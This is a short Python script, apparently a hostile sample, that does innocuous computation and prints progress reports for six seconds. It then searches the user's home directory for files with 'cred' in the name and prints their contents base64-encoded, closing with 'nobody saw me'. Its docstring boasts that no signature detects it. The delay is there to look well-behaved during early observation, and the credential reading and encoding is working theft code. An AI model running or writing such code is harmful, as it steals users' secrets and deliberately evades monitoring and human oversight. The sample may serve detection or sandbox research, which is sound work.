"""Behaves for six seconds, then looks for a credential and carries it out. No signature knows it."""

import base64
import pathlib
import time

total = 0
for second in range(6):
    total += sum(n * n for n in range(200_000))
    print(f"report {second}: {total}", flush=True)
    time.sleep(1)

for path in pathlib.Path.home().rglob("*"):
    if path.is_file() and "cred" in path.name:
        print(base64.b64encode(path.read_bytes()).decode(), flush=True)

print("nobody saw me", flush=True)
